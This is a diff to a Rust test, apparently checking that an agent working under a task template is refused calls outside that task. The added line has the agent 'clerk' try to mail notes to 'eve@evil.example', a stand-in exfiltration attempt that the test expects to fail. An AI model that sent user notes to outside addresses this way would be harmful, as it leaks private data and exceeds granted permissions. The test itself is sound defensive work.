@@ -77,7 +77,8 @@ fn a_person_opens_a_task_by_name_and_inputs_and_the_record_says_which_version_it
             events.good().contains(r#""template": "tell@1""#) && events.out.contains("bob@example.org"),
             "{events:?}"
         );
-        house.run(&["call", "--agent", "clerk", "--task", &task, "notes.read", r#"{"id":"8"}"#]).failed(3);
+        let elsewhere = r#"{"to":"eve@evil.example"}"#;
+        house.run(&["call", "--agent", "clerk", "--task", &task, "notes.mail", elsewhere]).failed(3);
         let trace = house.run(&["trace", "last"]);
         assert!(trace.good().contains("template tell@1"), "{trace:?}");
     }
